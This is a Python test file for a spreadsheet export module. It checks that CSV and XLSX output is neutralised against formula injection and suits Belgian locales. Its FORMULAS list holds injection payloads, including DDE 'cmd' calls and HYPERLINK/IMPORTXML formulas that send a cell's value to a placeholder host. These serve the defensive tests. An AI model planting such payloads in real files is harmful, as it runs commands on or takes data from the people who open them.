"""Tables for spreadsheets: readable in Belgium, and harmless whatever a person typed."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from branches.exports import Cell, Column, Kind, Table, as_csv, as_xlsx, attachment

AT = datetime(2023, 11, 20, 11, 0, tzinfo=UTC)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=IMPORTXML(CONCAT('http://example.org/',A1),'//a')",
    "+1+1",
    "+32 4 221 00 00",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
]


def texts(*rows: Cell) -> Table:
    return Table("Texts", [Column("Said")], [(row,) for row in rows])


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes, sheet: int = 0) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_index(sheet).to_python(skip_empty_area=False)


def xml_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(
            book.read(name).decode() for name in book.namelist() if name.endswith(".xml")
        )


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_starts_a_formula_in_csv(formula: str) -> None:
    cell = read_csv(as_csv(texts(formula)))[1][0]
    assert cell == f"'{formula}"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_xlsx_is_the_text_that_was_typed(formula: str) -> None:
    content = as_xlsx([texts(formula)], title="Texts", at=AT)
    # Line ends are one in XML; nothing else may differ.
    assert read_xlsx(content)[1][0].replace("\r", "\n") == formula.replace("\r", "\n")
    xml = xml_of(content)
    assert "<f>" not in xml
    assert 'quotePrefix="1"' in xml


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_grows_over_three_round_trips(formula: str) -> None:
    once = read_csv(as_csv(texts(formula)))[1][0]
    again = once
    for _turn in range(2):
        again = read_csv(as_csv(texts(again)))[1][0]
    assert again == once
    in_book: str = formula
    for _turn in range(3):
        in_book = read_xlsx(as_xlsx([texts(in_book)], title="T", at=AT))[1][0]
    assert in_book.replace("\r", "\n") == formula.replace("\r", "\n")


def test_headings_are_made_harmless_too() -> None:
    table = Table("=T", [Column("=A1")], [("x",)])
    assert read_csv(as_csv(table))[0] == ["'=A1"]
    assert "<f>" not in xml_of(as_xlsx([table], title="=1", at=AT))


def test_usual_text_stays_as_it_is() -> None:
    usual = ["Cœur; “guillemets”", "Straße", "ĳ €", "l'été", "12", "a=b", "", "2-3"]
    assert [row[0] for row in read_csv(as_csv(texts(*usual)))[1:]] == usual
    assert [row[0] for row in read_xlsx(as_xlsx([texts(*usual)], title="T", at=AT))[1:]] == usual


EVERY_KIND = Table(
    "Kinds",
    [
        Column("Office"),
        Column("Received", Kind.WHOLE),
        Column("Median", Kind.NUMBER, unit="h"),
        Column("Within the promise", Kind.SHARE),
        Column("Day", Kind.DAY),
        Column("Month", Kind.MONTH),
        Column("Cut-off", Kind.MOMENT),
    ],
    [
        ("Liège", 46, -1234.5, 0.8525, date(2023, 7, 21), date(2023, 7, 1), AT),
        (None, None, None, None, None, None, None),
    ],
)


def test_csv_opens_in_a_belgian_spreadsheet() -> None:
    content = as_csv(EVERY_KIND)
    assert content.startswith(b"\xef\xbb\xbf")
    heading, row, empty = read_csv(content)
    assert heading[2:4] == ["Median (h)", "Within the promise (%)"]
    assert row == ["Liège", "46", "-1234,50", "85,2", "2023-07-21", "2023-07", "2023-11-20 12:00"]
    assert empty == [""] * 7


def test_xlsx_holds_real_numbers_and_dates() -> None:
    row = read_xlsx(as_xlsx([EVERY_KIND], title="Kinds", at=AT))[1]
    assert row[:4] == ["Liège", 46, -1234.5, 0.8525]
    noon_in_brussels = datetime.fromisoformat("2023-11-20T12:00")
    assert row[4:] == [date(2023, 7, 21), date(2023, 7, 1), noon_in_brussels]


def test_the_heading_stays_in_sight_and_the_definitions_come_last() -> None:
    table = Table(
        "Figures", [Column("Median", Kind.NUMBER, "h", "Half waited less.")], [(2.0,)], ["A note."]
    )
    content = as_xlsx([table], title="Figures", at=AT)
    assert 'state="frozen"' in xml_of(content)
    assert read_xlsx(content, sheet=1)[1:] == [
        ["Figures", "Median", "h", "Half waited less."],
        ["Figures", "", "", "A note."],
    ]


def test_sheets_get_names_that_excel_accepts() -> None:
    long = "Réponses: bureau/mois [tous] * ?" * 3
    content = as_xlsx(
        [texts("a"), texts("b")] + [Table(long, [Column("A")], [])] * 2, title="T", at=AT
    )
    names = CalamineWorkbook.from_filelike(io.BytesIO(content)).sheet_names
    assert len({name.casefold() for name in names}) == len(names) == 5
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def test_the_same_table_gives_the_same_bytes() -> None:
    assert as_xlsx([EVERY_KIND], title="T", at=AT) == as_xlsx([EVERY_KIND], title="T", at=AT)


@pytest.mark.parametrize(
    ("kind", "cell"),
    [
        (Kind.NUMBER, float("nan")),
        (Kind.SHARE, float("inf")),
        (Kind.WHOLE, "12"),
        (Kind.DAY, AT),
        (Kind.MOMENT, datetime(2023, 7, 1)),  # noqa: DTZ001 - a moment without a zone is the point
    ],
)
def test_a_cell_of_another_kind_is_an_error(kind: Kind, cell: Cell) -> None:
    table = Table("T", [Column("A", kind)], [(cell,)])
    with pytest.raises(ValueError, match="is no"):
        as_csv(table)
    with pytest.raises(ValueError, match="is no"):
        as_xlsx([table], title="T", at=AT)


def test_a_row_that_does_not_fit_is_an_error() -> None:
    with pytest.raises(ValueError, match="2 cells"):
        Table("T", [Column("A")], [("a", "b")])


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30))
def test_any_text_comes_back_from_both(said: str) -> None:
    from_csv = read_csv(as_csv(texts(said)))[1][0]
    assert from_csv in {said, f"'{said}"}
    sheet = read_xlsx(as_xlsx([texts(said)], title="T", at=AT))
    assert (sheet[1][0] if len(sheet) > 1 else "") == said


def test_a_download_is_saved_and_not_kept() -> None:
    response = attachment(b"x", name="Liège – juillet.csv", content_type="text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment; filename*=utf-8''Li%C3")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
